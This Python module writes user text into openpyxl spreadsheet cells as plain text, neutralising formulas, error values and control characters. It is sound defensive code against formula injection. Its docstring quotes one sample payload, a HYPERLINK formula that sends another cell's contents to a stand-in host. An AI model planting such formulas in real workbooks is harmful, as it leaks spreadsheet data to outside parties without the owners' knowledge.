"""Cells that hold user text as text: never a formula, an error value or an illegal character.

openpyxl turns any str starting with "=" into a formula and "#N/A" into an error value, and
refuses control characters (IllegalCharacterError). An organisation named
``=HYPERLINK("http://x/?"&A2,"x")`` would so become a live formula in a workbook we wrote, and one
ESC in a name would abort a whole batch. Every workbook writer therefore puts values through
:func:`set_value`.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from maturity.text import FORMULA_STARTS, printable

_MAX_CELL = 32767  # Excel's limit on the characters in a cell


def set_value(cell: Any, value: object) -> Any:
    """Give ``cell`` ``value``; text is stored as a text cell, with control characters made
    visible."""
    if not isinstance(value, str):
        cell.value = value
        return cell
    cell.value = printable(value)[:_MAX_CELL]
    cell.data_type = "s"  # after the assignment, which would have made "=..." a formula
    if value.startswith(FORMULA_STARTS):
        cell.quotePrefix = True  # as Excel marks typed '=...: it stays text when the cell is edited
    return cell


def text_row(ws: Any, values: Iterable[object]) -> list[Any]:
    """Values for ``ws.append`` on a write-only sheet, each text one as a safe text cell."""
    from openpyxl.cell import WriteOnlyCell

    return [set_value(WriteOnlyCell(ws), v) if isinstance(v, str) else v for v in values]
